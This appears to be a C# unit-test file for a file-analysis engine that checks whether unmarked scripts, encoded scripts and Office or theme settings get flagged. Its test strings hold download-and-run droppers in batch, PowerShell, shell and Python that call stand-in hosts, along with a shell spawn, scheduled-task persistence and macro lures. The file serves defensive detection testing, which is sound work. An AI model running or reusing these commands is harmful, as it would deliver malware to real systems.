using System.Text;
using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Scripts and settings that no first line tells: never clean, whatever else is known.</summary>
public sealed class UnmarkedScriptTests
{
    [Theory]
    [InlineData("set a=cer\nset b=tutil\n%a%%b% -x http://a.example/a %TEMP%\\a\n", "application/x-bat")]
    [InlineData("curl -o %TEMP%\\x.vbs http://a.example/x.vbs\n%TEMP%\\x.vbs\n", "application/x-bat")]
    [InlineData("import urllib.request, os\np = 'a.bin'\nurllib.request.urlretrieve('http://a.example/a', p)\nos.startfile(p)\n",
        "text/x-python")]
    [InlineData("import socket,os,pty\ns=socket.socket()\npty.spawn('/bin/sh')\n", "text/x-python")]
    [InlineData("Set o = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\no.Create \"a.exe\"\n", "text/vbscript")]
    [InlineData("cd /tmp || cd /var/run; for a in arm mips; do curl -O http://192.0.2.1/$a; chmod +x $a; ./$a; done\n",
        "text/x-shellscript")]
    [InlineData("wget -q http://192.0.2.1/m -O /tmp/m && chmod 777 /tmp/m && /tmp/m\n", "text/x-shellscript")]
    [InlineData("\n$1 = '$c = ''[DllImport(\"kernel32.dll\")]public static extern IntPtr VirtualAlloc(IntPtr a);'';iex $c'\n",
        "text/x-powershell")]
    [InlineData("$w=New-Object System.Net.WebClient;$e = $w.DownloadString(\"http://a.example/l\");$e|Out-File a.exe;start a.exe\n",
        "text/x-powershell")]
    [InlineData("mkdir -force $env:TEMP\\a;Invoke-WebRequest \"http://a.example/a.msi\" -OutFile \"$env:TEMP\\a\\a.msi\"\n",
        "text/x-powershell")]
    [InlineData("if ((Get-Date).Ticks -lt 1) {(New-Object System.Net.WebClient).DownloadFile('http://a.example/u',\"$env:temp\\u\")};\n",
        "text/x-powershell")]
    [InlineData("[String] $name = @\"\nusing System;\n\"@\nAdd-Type $name\n", "text/x-powershell")]
    [InlineData("schtasks.exe /create /TN \"a\" /XML C:\\a.xml\n\nNew-Item C:\\a\nCopy-Item b C:\\a\n", "text/x-powershell")]
    public void Complete_ScriptWithoutAMark_IsAScript(string script, string mediaType)
    {
        var report = Judged.Of(script);

        report.Verdict.ShouldNotBe(Verdict.Clean);
        report.MediaType.ShouldBe(mediaType);
    }

    [Fact]
    public void Complete_EncodedScriptAsAWholeText_IsOpened()
    {
        const string script = "$c = New-Object Net.WebClient\n$c.DownloadFile('http://a.example/a', \"$env:TEMP\\a.exe\")\n"
            + "Start-Process \"$env:TEMP\\a.exe\"\n";
        foreach (var bytes in (byte[][])[Encoding.ASCII.GetBytes(script), Encoding.Unicode.GetBytes(script)])
        {
            foreach (var text in (string[])
                [
                    Convert.ToBase64String(bytes), Convert.ToBase64String(bytes, Base64FormattingOptions.InsertLineBreaks),
                    BitConverter.ToString(bytes), Convert.ToHexString(bytes),
                    string.Join(", ", bytes.Select(value => $"0x{value:x2}")),
                    $"\uFEFF{BitConverter.ToString(bytes).Replace('-', ' ')}\r\n",
                ])
            {
                var report = Judged.Of(text);

                report.Verdict.ShouldBe(Verdict.Suspicious, $"{text} {Judged.Text(report)}");
                report.AllParts().Single().MediaType.ShouldBe("text/x-powershell");
            }
        }
    }

    [Theory]
    [InlineData("4D-5A-90-00-03-00-00-00", "-00")]
    [InlineData("$b = 0x4d,0x5a,0x90,0x00,0x03,0x00", ",0x00")]
    [InlineData("char b[] = \"\\x4d\\x5a\\x90\\x00\\x03", "\\x00")]
    public void Complete_ProgramInHexDigits_IsOpened(string start, string rest)
    {
        var report = Judged.Of(start + string.Concat(Enumerable.Repeat(rest, 200)) + "\n");

        report.Rules().ShouldContain("part.program", Judged.Text(report));
    }

    [Fact]
    public void Complete_ListsThatDecodeToNothing_AreClean()
    {
        var words = string.Join('\n', Enumerable.Range(0, 500).Select(number => $"word{number * 7919}"));
        var numbers = string.Join(", ", Enumerable.Range(0, 500).Select(number => (number * 37) % 100));
        var picture = Convert.ToBase64String(Samples.Png);

        foreach (var text in (string[])[words, numbers, picture, new string('A', 5000)])
        {
            var report = Judged.Of(text);

            report.Verdict.ShouldBe(Verdict.Clean, Judged.Text(report));
            report.Parts.ShouldBeNull();
        }
    }

    [Theory]
    [InlineData("import os\n")]
    [InlineData("$x = (a+b)$ is the sum, and $y = 2$ its half\n")]
    [InlineData(".synopsis, .classsynopsis {\n  background: #eee;\n}\n.a, .b {\n  margin: 1em;\n}\n")]
    [InlineData("Things to do\n============\n\n.(z\nThe macro `$_[0]` is odd.\n$_[1] is as well, and so on\n")]
    [InlineData("install-html: $(HTML)\n\tcp $(HTML) out\nclean-file:\n\trm out\n")]
    [InlineData("{ \"a\": \"set $env:PATH, or [System.IO.Path]::Combine\", \"b\": 1 }\n")]
    [InlineData("Import socket wrenches from the depot, and set a date.\n")]
    [InlineData("The folder is %TEMP%; copy it to %APPDATA% by hand.\n")]
    [InlineData("Download it from https://a.example/a.tar.gz; then run ./configure.\n")]
    [InlineData("[Theme]\nDisplayName=Blue\n[Control Panel\\Desktop]\nWallpaper=%SystemRoot%\\web\\img1.jpg\n")]
    public void Complete_TextThatNamesSuchThings_IsClean(string text) => Judged.Of(text).Verdict.ShouldBe(Verdict.Clean);

    [Theory]
    [InlineData("[Theme]\nDisplayName=a\n[VisualStyles]\nPath=\\\\192.0.2.1\\share\\a.msstyles\n", "shortcut.remote")]
    [InlineData("<?xml version=\"1.0\"?><AppInstaller xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\" "
        + "Uri=\"http://a.example/a\"/>",
        "xml.starter")]
    [InlineData("<?xml version=\"1.0\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" "
        + "w:macrosPresent=\"yes\"/>", "office.macro")]
    [InlineData("<?xml version=\"1.0\"?><office:document xmlns:office=\"o\" xmlns:ooo=\"p\"><ooo:module><ooo:source-code>Sub Main\n"
        + "Shell(\"calc\")\nEnd Sub</ooo:source-code></ooo:module></office:document>", "office.macro")]
    [InlineData("<?xml version=\"1.0\"?><p:sld xmlns:p=\"p\" xmlns:a=\"a\"><a:hlinkMouseOver action=\"ppaction://program\"/></p:sld>",
        "office.starting-link")]
    [InlineData("<?xml version=\"1.0\"?><we:webextension xmlns:we=\"w\"><we:reference store=\"\\\\192.0.2.1\\cat\"/></we:webextension>",
        "xml.file-share")]
    public void Complete_SettingsThatReachOrStartSomething_AreSuspicious(string text, string rule)
    {
        var report = Judged.Of(text);

        report.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(report));
        report.Rules().ShouldContain(rule, Judged.Text(report));
    }
}
